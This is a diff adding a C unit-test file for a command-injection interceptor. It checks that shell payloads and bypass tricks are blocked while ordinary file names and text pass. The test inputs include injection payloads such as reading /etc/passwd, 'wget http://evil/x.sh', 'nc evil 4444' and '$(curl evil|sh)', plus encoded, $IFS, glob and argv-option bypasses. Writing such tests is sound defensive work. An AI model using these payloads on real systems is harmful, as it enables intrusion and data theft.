@@ -1,0 +1,322 @@
+/* libmoatagent: the POSIX sh tokenizer and the command_injection check —
+ * separators, pipes, substitutions, redirections, expansions, globs and
+ * brace expansion from an input, in quoted and unquoted places and in
+ * argv arrays; the bypass families (URL and double encoding, HTML
+ * entities, quoting games, $IFS for spaces, newlines, case); and the
+ * inputs that must pass: file names with spaces inside quotes, text full
+ * of shell words, text that only breaks the line. */
+#include "agent_test.h"
+#include "ma_shell.h"
+
+#define CMDI_BLOCK "{\"interceptors\":{\"command_injection\":{\"mode\":\"block\"}}}"
+
+static const struct moat_policy *pol;
+
+static int group_setup(void **state)
+{
+	(void)state;
+	pol = moat_policy_parse(CMDI_BLOCK, 1, NULL, 0);
+	return pol ? 0 : -1;
+}
+
+static int group_teardown(void **state)
+{
+	(void)state;
+	moat_policy_release(pol);
+	return 0;
+}
+
+static struct moat_request *req_with(const char *input)
+{
+	struct moat_request_info ri = {.method = "GET", .endpoint = "/tools/ping", .policy = pol};
+	struct moat_request *r = NULL;
+
+	assert_int_equal(moat_request_begin(NULL, &ri, &r), MOAT_ALLOW);
+	assert_int_equal(moat_request_add_input(r, MOAT_INPUT_QUERY, "host", input, strlen(input)),
+	                 0);
+	return r;
+}
+
+/* The verdict of moat_check_shell for head + input + tail, with input as
+ * the request's input (inputs may be given encoded: then enc is what the
+ * request holds and input what reaches the line). */
+static int shell3(const char *enc, const char *head, const char *input, const char *tail)
+{
+	char cmd[2048];
+	struct moat_request *r = req_with(enc);
+	int v;
+
+	snprintf(cmd, sizeof cmd, "%s%s%s", head, input, tail);
+	v = moat_check_shell(r, cmd, (size_t)-1);
+	if (v == MOAT_BLOCK) {
+		const struct moat_event *ev = moat_request_event(r);
+		assert_non_null(ev);
+		assert_string_equal(ev->interceptor, "command_injection");
+		assert_string_equal(ev->action, "blocked");
+		assert_string_equal(ev->operation, cmd);
+		assert_non_null(ev->rule);
+	}
+	moat_request_end(r);
+	return v;
+}
+
+#define unq(in)  shell3((in), "ping -c 1 ", (in), " -W 2")
+#define sq(in)   shell3((in), "grep -i -- '", (in), "' /var/log/app.log")
+#define dq(in)   shell3((in), "convert \"", (in), "\" -resize 64x64 /tmp/t.png")
+#define tail(in) shell3((in), "cat /srv/files/", (in), "")
+
+/* ---- the tokenizer ---- */
+
+static const char *kinds(const char *s, char *out, size_t cap)
+{
+	static struct ma_sh_lex lx;
+	size_t o = 0;
+
+	ma_sh_lex(s, strlen(s), &lx);
+	out[0] = '\0';
+	for (int i = 0; i < lx.nel; i++) {
+		int n = snprintf(out + o, cap - o, "%s%d:%.*s", o ? "|" : "", lx.el[i].kind,
+		                 (int)(lx.el[i].end - lx.el[i].start), s + lx.el[i].start);
+		if (n < 0 || (size_t)n >= cap - o)
+			break;
+		o += (size_t)n;
+	}
+	return out;
+}
+
+static void the_tokenizer_follows_posix_sh(void **state)
+{
+	char b[512];
+	static struct ma_sh_lex lx;
+
+	(void)state;
+	assert_string_equal(kinds("a 'b c' \"d $e\" f\\ g", b, sizeof b),
+	                    "1:a|1:'b c'|1:\"d $e\"|1:f\\ g");
+	assert_string_equal(kinds("a;b&&c||d|e&f", b, sizeof b),
+	                    "1:a|2:;|1:b|4:&&|1:c|4:|||1:d|5:||1:e|3:&|1:f");
+	assert_string_equal(kinds("a 2>&1 >>x <y <<<z", b, sizeof b),
+	                    "1:a|8:2>&|1:1|8:>>|1:x|8:<|1:y|8:<<<|1:z");
+	assert_string_equal(kinds("echo $(ls \"a)b\") `id` # c", b, sizeof b),
+	                    "1:echo|1:$(ls \"a)b\")|1:`id`|9:# c");
+	assert_string_equal(kinds("a#b (c)", b, sizeof b), "1:a#b|6:(|1:c|7:)");
+	/* here-documents are data; the line after them is not */
+	assert_string_equal(kinds("cat <<EOF\n$(id); x\nEOF\nls", b, sizeof b),
+	                    "1:cat|8:<<|1:EOF|2:\n|10:$(id); x\n|1:ls");
+	ma_sh_lex("echo 'open", 10, &lx);
+	assert_true(lx.unterm);
+	assert_false(ma_sh_valid(&lx));
+	ma_sh_lex("a | | b", 7, &lx);
+	assert_false(ma_sh_valid(&lx));
+	ma_sh_lex("f() { id; }; f", 14, &lx);
+	assert_true(ma_sh_valid(&lx));
+	ma_sh_lex("echo a )", 8, &lx);
+	assert_false(ma_sh_valid(&lx));
+}
+
+/* ---- attacks ---- */
+
+static void separators_and_pipes_fire(void **state)
+{
+	(void)state;
+	assert_int_equal(unq("127.0.0.1; id"), MOAT_BLOCK);
+	assert_int_equal(unq("127.0.0.1 && cat /etc/passwd"), MOAT_BLOCK);
+	assert_int_equal(unq("x || wget http://evil/x.sh"), MOAT_BLOCK);
+	assert_int_equal(unq("127.0.0.1 | nc evil 4444"), MOAT_BLOCK);
+	assert_int_equal(unq("127.0.0.1 & sleep 5 &"), MOAT_BLOCK);
+	assert_int_equal(unq("127.0.0.1\nid"), MOAT_BLOCK);
+	assert_int_equal(unq("x;(id)"), MOAT_BLOCK);
+	/* breaking out of the quotes the application wrote */
+	assert_int_equal(sq("'; id; echo '"), MOAT_BLOCK);
+	assert_int_equal(sq("x'|id|'"), MOAT_BLOCK);
+	assert_int_equal(dq("a.png\"; rm -rf /tmp/x; \""), MOAT_BLOCK);
+	assert_int_equal(tail("a.txt;/usr/bin/id"), MOAT_BLOCK);
+}
+
+static void substitutions_fire_even_inside_double_quotes(void **state)
+{
+	(void)state;
+	assert_int_equal(unq("$(id)"), MOAT_BLOCK);
+	assert_int_equal(unq("`id`"), MOAT_BLOCK);
+	assert_int_equal(dq("$(curl evil|sh)"), MOAT_BLOCK);
+	assert_int_equal(dq("`whoami`.png"), MOAT_BLOCK);
+	assert_int_equal(unq("<(id)"), MOAT_BLOCK);
+	/* in single quotes they are text */
+	assert_int_equal(sq("$(id) `id`"), MOAT_ALLOW);
+	/* a substitution runs even if the line fails afterwards */
+	assert_int_equal(shell3("$(id)'", "echo ", "$(id)'", ""), MOAT_BLOCK);
+}
+
+static void redirections_expansions_globs_and_braces_fire(void **state)
+{
+	(void)state;
+	assert_int_equal(unq("x > /var/www/html/s.php"), MOAT_BLOCK);
+	assert_int_equal(unq("x 2>&1"), MOAT_BLOCK);
+	assert_int_equal(unq("x < /etc/passwd"), MOAT_BLOCK);
+	assert_int_equal(tail("x;cat$IFS/etc/passwd"), MOAT_BLOCK);
+	assert_int_equal(unq("${IFS}"), MOAT_BLOCK);
+	assert_int_equal(tail("*.*"), MOAT_BLOCK);
+#define GLOBS "/\?\?\?/\?\?t /\?\?\?/p\?\?s\?\?" /* cat /etc/passwd */
+	assert_int_equal(shell3(GLOBS, "", GLOBS, ""), MOAT_BLOCK);
+	assert_int_equal(unq("{cat,/etc/passwd}"), MOAT_BLOCK);
+	/* an option after leaving the quotes */
+	assert_int_equal(shell3("x' '--exec=id", "find /srv -name '", "x' '--exec=id", "'"),
+	                 MOAT_BLOCK);
+}
+
+static void bypass_families_fire(void **state)
+{
+	(void)state;
+	/* URL, double URL and HTML encodings of the input */
+	assert_int_equal(shell3("x%3Bid", "ping -c 1 ", "x;id", ""), MOAT_BLOCK);
+	assert_int_equal(shell3("x%0aid", "ping -c 1 ", "x\nid", ""), MOAT_BLOCK);
+	assert_int_equal(shell3("x%253Bid", "ping -c 1 ", "x;id", ""), MOAT_BLOCK);
+	assert_int_equal(shell3("x&#59;id", "ping -c 1 ", "x;id", ""), MOAT_BLOCK);
+	/* quoting games inside the command word */
+	assert_int_equal(unq("x;i''d"), MOAT_BLOCK);
+	assert_int_equal(unq("x;\\i\\d"), MOAT_BLOCK);
+	assert_int_equal(unq("x;\"/bin\"/cat /etc/passwd"), MOAT_BLOCK);
+	/* tabs for spaces, case of the path */
+	assert_int_equal(unq("x\t;\tid"), MOAT_BLOCK);
+	assert_int_equal(unq("x;/BIN/id"), MOAT_BLOCK);
+}
+
+/* ---- what must pass ---- */
+
+static void data_inside_one_word_is_allowed(void **state)
+{
+	(void)state;
+	assert_int_equal(sq("my holiday photo.jpg"), MOAT_ALLOW);
+	assert_int_equal(dq("my holiday photo.jpg"), MOAT_ALLOW);
+	assert_int_equal(sq("rm -rf / ; echo $(id) | cat > x"), MOAT_ALLOW);
+	assert_int_equal(dq("a; b && c | d > e"), MOAT_ALLOW);
+	assert_int_equal(unq("example.com"), MOAT_ALLOW);
+	assert_int_equal(unq("node-7.internal"), MOAT_ALLOW);
+}
+
+static void text_full_of_shell_words_is_allowed(void **state)
+{
+	(void)state;
+	/* words made by whitespace: nothing runs that the application did not name */
+	assert_int_equal(unq("cat the file and grep for rm -rf"), MOAT_ALLOW);
+	assert_int_equal(unq("SET 8 -MINI AS"), MOAT_ALLOW);
+	/* text that only breaks the line cannot run anything */
+	assert_int_equal(sq("O'Brien"), MOAT_ALLOW);
+	assert_int_equal(unq("70\" ROUND TABLE; CLOTH"), MOAT_ALLOW);
+	assert_int_equal(unq("1 (917) 666-0987"), MOAT_ALLOW);
+	/* what only looks like syntax */
+	assert_int_equal(unq("$5 off"), MOAT_ALLOW);
+	assert_int_equal(unq("ID=7&REF=HOME"), MOAT_ALLOW);   /* assignments only */
+	assert_int_equal(unq("BASE; SET SWAROVSKI"), MOAT_ALLOW); /* no program is named so */
+	assert_int_equal(unq("12.5 x 12.5&quot;"), MOAT_ALLOW); /* a character reference */
+	assert_int_equal(tail("WHERE?"), MOAT_ALLOW);
+	assert_int_equal(unq("x > y"), MOAT_ALLOW); /* writes "y": no path from the input */
+}
+
+/* ---- argv ---- */
+
+static int argv_check(const char *input, const char *const *argv)
+{
+	struct moat_request *r = req_with(input);
+	int v = moat_check_argv(r, argv, -1);
+
+	if (v == MOAT_BLOCK) {
+		const struct moat_event *ev = moat_request_event(r);
+		assert_non_null(ev);
+		assert_non_null(strstr(ev->details_json, "\"form\":\"argv\"") ?
+		                    ev->details_json :
+		                    strstr(ev->details_json, "sh -c"));
+	}
+	moat_request_end(r);
+	return v;
+}
+
+static void argv_options_programs_and_shells(void **state)
+{
+	(void)state;
+	{ /* no shell: separators are data */
+		const char *a[] = {"ping", "-c", "1", "x; id", NULL};
+		assert_int_equal(argv_check("x; id", a), MOAT_ALLOW);
+	}
+	{
+		const char *a[] = {"git", "clone", "--upload-pack=touch /tmp/p", "/srv/r", NULL};
+		assert_int_equal(argv_check("--upload-pack=touch /tmp/p", a), MOAT_BLOCK);
+	}
+	{
+		const char *a[] = {"ssh", "-oProxyCommand=id", "host", NULL};
+		assert_int_equal(argv_check("-oProxyCommand=id", a), MOAT_BLOCK);
+	}
+	{ /* after "--" it is an operand */
+		const char *a[] = {"git", "clone", "--", "--upload-pack=x", NULL};
+		assert_int_equal(argv_check("--upload-pack=x", a), MOAT_ALLOW);
+	}
+	{ /* a negative number and an ordinary option are allowed */
+		const char *a[] = {"seq", "-5", "5", NULL};
+		const char *b[] = {"grep", "-v", "x", NULL};
+		assert_int_equal(argv_check("-5", a), MOAT_ALLOW);
+		assert_int_equal(argv_check("-v", b), MOAT_ALLOW);
+	}
+	{ /* the input names the program */
+		const char *a[] = {"/tmp/x.sh", "a", NULL};
+		assert_int_equal(argv_check("/tmp/x.sh", a), MOAT_BLOCK);
+	}
+	{ /* a shell's -c script is a command line */
+		const char *a[] = {"/bin/sh", "-c", "nslookup x;id", NULL};
+		const char *b[] = {"bash", "-lc", "nslookup 'x;id'", NULL};
+		assert_int_equal(argv_check("x;id", a), MOAT_BLOCK);
+		assert_int_equal(argv_check("x;id", b), MOAT_ALLOW);
+	}
+}
+
+/* ---- the frame ---- */
+
+static void a_check_that_does_not_fire_allocates_nothing(void **state)
+{
+	struct moat_request *r = req_with("my file (1).txt");
+	const char *cmd = "gzip -k -- 'my file (1).txt'";
+	const char *argv[] = {"gzip", "-k", "--", "my file (1).txt", NULL};
+
+	(void)state;
+	ma_alloc_fail_at(1);
+	assert_int_equal(moat_check_shell(r, cmd, (size_t)-1), MOAT_ALLOW);
+	assert_int_equal(moat_check_argv(r, argv, -1), MOAT_ALLOW);
+	assert_false(ma_alloc_failed());
+	ma_alloc_fail_at(0);
+	moat_request_end(r);
+}
+
+static void monitor_mode_logs_and_allows(void **state)
+{
+	const struct moat_policy *p = moat_policy_parse(
+	    "{\"interceptors\":{\"command_injection\":{\"mode\":\"monitor\"}}}", 1, NULL, 0);
+	struct moat_request_info ri = {.endpoint = "/x", .policy = p};
+	struct moat_request *r;
+
+	(void)state;
+	assert_int_equal(moat_request_begin(NULL, &ri, &r), MOAT_ALLOW);
+	moat_request_add_input(r, MOAT_INPUT_FORM, "host", "a;id", 4);
+	assert_int_equal(moat_check_shell(r, "ping a;id", (size_t)-1), MOAT_ALLOW);
+	assert_non_null(moat_request_event(r));
+	assert_string_equal(moat_request_event(r)->action, "logged");
+	assert_string_equal(moat_request_event(r)->rule, "cmd.separator");
+	moat_request_end(r);
+	/* no request: allowed */
+	assert_int_equal(moat_check_shell(NULL, "ping a;id", (size_t)-1), MOAT_ALLOW);
+	moat_policy_release(p);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+	    cmocka_unit_test(the_tokenizer_follows_posix_sh),
+	    cmocka_unit_test(separators_and_pipes_fire),
+	    cmocka_unit_test(substitutions_fire_even_inside_double_quotes),
+	    cmocka_unit_test(redirections_expansions_globs_and_braces_fire),
+	    cmocka_unit_test(bypass_families_fire),
+	    cmocka_unit_test(data_inside_one_word_is_allowed),
+	    cmocka_unit_test(text_full_of_shell_words_is_allowed),
+	    cmocka_unit_test(argv_options_programs_and_shells),
+	    cmocka_unit_test(a_check_that_does_not_fire_allocates_nothing),
+	    cmocka_unit_test(monitor_mode_logs_and_allows),
+	};
+	return cmocka_run_group_tests(tests, group_setup, group_teardown);
+}
